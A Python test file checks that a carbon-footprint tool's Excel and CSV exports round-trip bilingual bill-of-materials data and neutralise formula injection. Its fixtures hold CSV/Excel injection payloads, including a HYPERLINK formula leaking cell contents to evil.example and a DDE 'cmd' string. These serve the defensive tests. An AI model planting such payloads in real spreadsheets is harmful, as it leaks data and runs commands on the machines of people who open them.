"""Excel and CSV: the bilingual BOM template reads back as the same BOM through bom_io, the
results workbook holds every table, and user text never becomes a formula."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def tricky_bom():
    """Everything that could go wrong on the way: formulas, line breaks, nesting, units, quality."""
    from footprint.bom import bom_from_data

    return bom_from_data(
        {
            "product": HYPERLINK + "\nsecond line",
            "declared_unit": {"quantity": 2, "unit": "piece", "mass_kg_per_piece": 0.375, "description": "+cmd|' /C calc'!A0"},
            "grid": "GRID-HK",
            "notes": "@SUM(1,2)",
            "lines": [
                {"id": "-L1", "activity_id": "HOUSING", "amount": 0.5, "unit": "g", "stage": "raw_materials", "description": "=1+1", "name": "\tTab", "gsd": 1.2, "pedigree": [1, 2, 3, 4, 5]},
                {
                    "id": "ASM",
                    "amount": 2,
                    "unit": "piece",
                    "stage": "purchased_parts",
                    "lines": [
                        {"id": "C1", "activity_id": "DRIVER", "amount": 1, "unit": "piece", "mass_kg_per_piece": 0.1, "data_type": "primary", "description": " leading space, 中文说明 "},
                        {"id": "C2", "activity_id": "PAPER", "amount": 12.5, "unit": "g"},
                    ],
                },
                {"id": "T", "activity_id": "TRUCK", "amount": 0.5, "unit": "kg", "distance_km": 123.4, "stage": "inbound_transport"},
                {"id": "E", "activity_id": "ELEC-SITE", "amount": 1200.25, "unit": "kWh", "stage": "manufacturing_energy", "data_type": "primary"},
            ],
        }
    )


def test_template_round_trip_is_lossless(study_dataset, tricky_bom):
    from footprint.bom_io import read_bom
    from footprint.exchange.excel import bom_template_xlsx

    data = bom_template_xlsx(study_dataset, tricky_bom)
    back = read_bom(data, "template.xlsx")
    assert back == tricky_bom
    assert back.model_dump() == tricky_bom.model_dump()
    assert bom_template_xlsx(study_dataset, tricky_bom) == data  # deterministic bytes


def test_example_bom_round_trip_on_the_gba_dataset(gba_dataset):
    from footprint.bom_io import read_bom
    from footprint.exchange.excel import bom_template_xlsx

    bom = read_bom(REPO / "examples" / "led-lamp-bom.csv")
    assert read_bom(bom_template_xlsx(gba_dataset, bom), "t.xlsx") == bom


def test_empty_template_is_bilingual_with_drop_downs(study_dataset):
    import openpyxl

    from footprint.bom_io import read_bom
    from footprint.errors import InputError
    from footprint.exchange.excel import bom_template_xlsx

    data = bom_template_xlsx(study_dataset)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["BOM", "Activities", "Lists"]
    sheet = workbook["BOM"]
    texts = [str(c.value) for row in sheet.iter_rows(max_row=12) for c in row if c.value]
    assert "# 编号 Line id" in texts and "活动编号 Activity" in texts and "数量 Amount" in texts
    assert "activity_id" in texts and "amount" in texts  # the machine-readable header row
    formulas = {dv.formula1: str(dv.sqref) for dv in sheet.data_validations.dataValidation}
    assert any(f.startswith("=Activities!$A$2:$A$") for f in formulas)
    assert any(f.startswith("=Lists!$A$2") for f in formulas)  # units
    activities = workbook["Activities"]
    header = [c.value for c in activities[1]]
    assert header[:3] == ["活动编号 Activity id", "中文名称 Chinese name", "英文名称 English name"]
    rows = {row[0]: row for row in activities.iter_rows(min_row=2, values_only=True)}
    assert rows["PAPER"][1] and rows["PAPER"][2] and len(rows) == len(study_dataset.activities)
    with pytest.raises(InputError, match="no BOM rows"):
        read_bom(data, "empty.xlsx")


def _sheet_xml(data: bytes, index: int) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def test_results_workbook_neutralises_formulas_and_keeps_numbers(study_engine):
    import openpyxl

    from footprint.bom import bom_from_data
    from footprint.exchange.excel import results_xlsx
    from footprint.reports.inputs import prepare_report

    bom = bom_from_data(
        {
            "product": HYPERLINK,
            "declared_unit": "1 kg",
            "lines": [{"id": "=cmd", "activity_id": "HOUSING", "amount": 1, "unit": "kg", "stage": "raw_materials", "description": "-2+3"}],
        }
    )
    data = results_xlsx(prepare_report(bom, study_engine))
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    summary = workbook["Summary"]
    product = summary["B1"]
    assert product.value == HYPERLINK and product.data_type == "s" and product.quotePrefix
    lines = workbook["Lines"]
    assert lines["A2"].value == "=cmd" and lines["A2"].data_type == "s"
    assert lines["N2"].value == "-2+3" and lines["N2"].data_type == "s"
    assert lines["L2"].data_type == "n" and lines["L2"].value == pytest.approx(12.0)
    for index in range(1, len(workbook.sheetnames) + 1):
        assert "<f>" not in _sheet_xml(data, index)  # not a single formula cell anywhere
    assert workbook.sheetnames == ["Summary", "Lines", "Stages", "Gases", "Origins"]


def test_results_workbook_of_a_study_has_findings(study_report):
    import openpyxl

    from footprint.exchange.excel import results_xlsx

    workbook = openpyxl.load_workbook(io.BytesIO(results_xlsx(study_report)))
    assert workbook.sheetnames == ["Summary", "Lines", "Stages", "Gases", "Origins", "Findings"]
    findings = list(workbook["Findings"].iter_rows(min_row=2, values_only=True))
    assert len(findings) == len(study_report.evaluation.findings)
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True)}
    assert summary["证书编号 Certificate no."] == "GBA-CFP-2025-0042"
    assert summary["碳足迹 Footprint (kg CO2e / declared unit)"] == pytest.approx(5.91949)


def test_csv_neutralises_text_but_not_negative_numbers():
    import csv

    from footprint.exchange.safe import csv_bytes, csv_value

    assert csv_value(-3.5) == "-3.5" and csv_value(-2) == "-2" and csv_value(1e-7) == "1e-07"
    assert csv_value("-3.5 kg") == "'-3.5 kg"
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_value(text) == "'" + text
    assert csv_value("plain") == "plain" and csv_value("a=b") == "a=b"
    data = csv_bytes(["name", "value"], [[HYPERLINK, -1.25]])
    assert data.startswith("\ufeff".encode("utf-8"))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HYPERLINK, "-1.25"]


def test_results_csv(study_report):
    import csv

    from footprint.exchange.excel import results_csv

    rows = list(csv.reader(io.StringIO(results_csv(study_report).decode("utf-8-sig"))))
    assert rows[0][0] == "路径 Path"
    assert [r[0] for r in rows[1:-1]] == [line.path for line in study_report.result.lines]
    assert rows[-1][0] == "TOTAL" and float(rows[-1][11]) == pytest.approx(5.91949)
